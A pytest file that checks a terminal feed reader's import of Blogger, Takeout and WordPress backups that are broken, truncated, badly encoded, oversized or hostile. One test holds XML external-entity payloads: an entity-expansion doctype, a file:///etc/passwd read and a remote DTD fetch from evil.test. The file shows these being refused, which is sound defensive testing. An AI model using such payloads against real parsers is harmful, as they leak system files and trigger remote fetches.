"""Files that are broken, cut short, badly written, or meant to do harm."""

import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.feeds.backups.files import (
    NOW,
    answers,
    comment,
    export,
    held,
    item,
    post,
    remark,
    taken,
    takeout,
    wxr,
)
from tui_reader.errors import FeedError
from tui_reader.feeds.backups import Asked, letters, read, signs
from tui_reader.feeds.backups.paragraphs import paragraphs
from tui_reader.limits import CONTENT_BYTES


def titles(folder: Path, text: str | bytes) -> list[str]:
    return [each.title for each in held(folder, text).posts]


@pytest.mark.parametrize(
    ("whole", "posts"),
    [
        (export(post(1), post(2), post(3)), 2),
        (takeout(taken(1), taken(2), taken(3)), 2),
        (wxr(item(1), item(2), item(3)), 2),
    ],
)
def test_a_file_that_ends_in_the_middle_gives_what_stands_before(
    tmp_path: Path, whole: str, posts: int
) -> None:
    found = held(tmp_path, whole[: whole.index("Post 3") + 40])
    assert [each.title for each in found.posts] == ["Post 1", "Post 2"]
    assert found.note == f"The file ends in the middle; {posts} posts could be read."


@pytest.mark.parametrize(
    "fault", ["</b>", "<p>", "& ", "]]>", "<![CDATA[ ]]> </wp:x>", "\x0e</", "</item>", "</entry>"]
)
@pytest.mark.parametrize("make", [export, wxr])
def test_after_what_is_broken_the_reading_goes_on(
    tmp_path: Path, make: Callable[..., str], fault: str
) -> None:
    one = post if make is export else item
    broken = one(2).replace("Post 2", f"Post 2{fault}")
    found = held(tmp_path, make(one(1), broken, one(3), one(4)))
    kept = [each.title for each in found.posts]
    assert [title for title in kept if title != "Post 2"] == ["Post 1", "Post 3", "Post 4"]
    assert found.note.startswith("The file is broken at line ")
    assert "3 posts could be read" in found.note


@pytest.mark.parametrize("make", [export, wxr])
def test_a_missing_end_costs_the_one_post_only(tmp_path: Path, make: Callable[..., str]) -> None:
    one, end = (post, "</entry>") if make is export else (item, "</item>")
    assert titles(tmp_path, make(one(1), one(2).removesuffix(end), one(3))) == ["Post 1", "Post 3"]


def test_comments_of_a_post_that_is_broken_are_not_given_to_the_next(tmp_path: Path) -> None:
    broken = item(2, more=remark(7) + remark(8, approved="spam") + "<b></c>")
    found = held(tmp_path, wxr(item(1, more=remark(5)), broken, item(3, more=remark(9))))
    assert [(each.post[-1], each.guid) for each in found.comments] == [("1", "5"), ("3", "9")]
    assert [each.comments for each in found.posts] == [1, 1]


def test_a_break_in_a_piece_is_left_behind_in_a_later_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(letters, "PIECE_BYTES", 700)
    broken = item(2).replace("Text of 2", "]]></b>" + "x" * 2_000)
    assert titles(tmp_path, wxr(item(1), broken, item(3))) == ["Post 1", "Post 3"]


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64])
def test_it_does_not_matter_where_a_piece_ends(
    tmp_path: Path, size: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = wxr(item(1, content="Grüße&#8; &#65; 漢字 \x0b end", more=remark(5)), item(2))
    whole = held(tmp_path, text)
    monkeypatch.setattr(letters, "PIECE_BYTES", size)
    again = held(tmp_path, text)
    assert (again.posts, again.comments) == (whole.posts, whole.comments)
    assert "Grüße" in whole.posts[0].html


@pytest.mark.parametrize(
    ("raw", "title"),
    [
        (b"A\x08B\x1bC", "ABC"),
        (b"A&#x1b;B&#0;C", "A\N{REPLACEMENT CHARACTER}B\N{REPLACEMENT CHARACTER}C"),
        (b"A\xffB", "A\N{REPLACEMENT CHARACTER}B"),
        (b"A&nbsp;B &eacute;", "A B é"),
        (b"A &amp; B", "A & B"),
        ("A\uffffB".encode(), "AB"),
    ],
)
def test_letters_that_xml_does_not_allow_cost_nothing(
    tmp_path: Path, raw: bytes, title: str
) -> None:
    assert titles(tmp_path, wxr(item(1)).encode().replace(b"Post 1", raw)) == [title]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "iso-8859-1", "euc-kr", "gb18030"])
def test_other_encodings_are_read_as_they_are_declared(tmp_path: Path, encoding: str) -> None:
    word = {"iso-8859-1": "Grüße", "euc-kr": "안녕", "gb18030": "你好"}.get(encoding, "Grüße 你好")
    text = wxr(item(1)).replace("Post 1", word).replace("UTF-8", encoding.removesuffix("-sig"))
    assert titles(tmp_path, text.encode(encoding)) == [word]


@pytest.mark.parametrize("encoding", ["idna", "punycode", "hex", "undefined", "nosuch"])
def test_what_is_declared_and_is_no_encoding_of_letters_is_read_as_utf8(
    tmp_path: Path, encoding: str
) -> None:
    text = wxr(item(1)).replace("Post 1", "Grüße").replace("UTF-8", encoding)
    assert titles(tmp_path, text.encode()) == ["Grüße"]


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>',
    ],
)
def test_entities_of_the_file_are_refused(tmp_path: Path, doctype: str) -> None:
    text = wxr(item(1)).replace("<rss ", f"{doctype}<rss ", 1)
    with pytest.raises(FeedError, match="entities of its own"):
        held(tmp_path, text)


def test_nothing_is_opened_but_the_file(tmp_path: Path) -> None:
    text = wxr(item(1)).replace("<rss ", '<!DOCTYPE rss SYSTEM "http://evil.test/x"><rss ', 1)
    opened: list[object] = []
    watched = True

    def watch(event: str, details: tuple[object, ...]) -> None:
        if watched and event in ("open", "socket.connect"):
            opened.append(details[0])

    sys.addaudithook(watch)
    file = tmp_path / "backup.xml"
    file.write_text(text, encoding="utf-8")
    opened.clear()
    list(read(Asked(file, signs.WXR, NOW)))
    watched = False
    assert [each for each in opened if not str(each).endswith((".py", ".pyc"))] == [str(file)]


def test_a_file_past_the_bound_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "huge.xml"
    with file.open("wb") as hole:
        hole.truncate(letters.BACKUP_BYTES + 1)
    with pytest.raises(FeedError, match="is larger than 2 GiB"):
        next(iter(read(Asked(file, signs.WXR, NOW))))


def test_endless_text_and_endless_elements_stay_small(tmp_path: Path) -> None:
    long = item(1, content="x" * 9_000_000)
    many = item(2, more="<wp:postmeta><wp:meta_key>k</wp:meta_key></wp:postmeta>" * 20_000)
    deep = item(3, more="<wp:x>" * 5_000 + "</wp:x>" * 5_000)
    found = held(tmp_path, wxr(long, many, deep, item(4)))
    assert [each.title for each in found.posts] == ["Post 1", "Post 2", "Post 3", "Post 4"]
    assert len(found.posts[0].html) <= CONTENT_BYTES
    assert found.posts[0].is_summary


def test_what_follows_the_end_of_a_file_is_let_be(tmp_path: Path) -> None:
    found = held(tmp_path, export(post(1), comment(2, 1)) + "\x00\x00 junk <")
    assert ([each.title for each in found.posts], found.note) == (["Post 1"], "")


def test_what_is_no_feed_at_all_is_refused(tmp_path: Path) -> None:
    with pytest.raises(FeedError):
        list(answers(tmp_path, "<html><body>&lt;wp:wxr_version> <wp:wxr_version></body></html>"))


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (export(post(1)), "blogger-export"),
        (takeout(taken(1)), "blogger-takeout"),
        (wxr(item(1)), "wxr"),
        (wxr(item(1)).replace("<wp:wxr_version>1.2</wp:wxr_version>", ""), "wxr"),
        ('<rss version="2.0"><channel><title>Feed</title></channel></rss>', ""),
        (export(post(1)).replace(".archive", "").replace("kind#", ""), ""),
    ],
)
def test_a_backup_is_told_from_a_feed_by_its_beginning(text: str, kind: str) -> None:
    assert signs.kind_of(text.encode()) == kind
    assert signs.kind_of(text.encode("utf-16")) == kind


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One\n\nTwo\nlines", "<p>One</p>\n<p>Two<br />\nlines</p>"),
        ("<p>One</p>\n\n<p>Two</p>", "<p>One</p>\n<p>Two</p>"),
        ("<!-- wp:paragraph -->\n<p>A</p>\n\n\n<!-- /wp -->", None),
        ("<pre>a\n\nb</pre>", "<pre>a\n\nb</pre>"),
        ("A<ul>\n<li>b</li>\n</ul>C\r\nD", "A<ul>\n<li>b</li>\n</ul>C<br />\nD"),
        (
            '[caption id="x" caption="Words"]<img src="a.png" />[/caption]',
            '<figure><img src="a.png" /><p>Words</p></figure>',
        ),
        ("", ""),
    ],
)
def test_text_of_wordpress_gets_its_paragraphs(text: str, html: str | None) -> None:
    assert paragraphs(text) == (text if html is None else html)
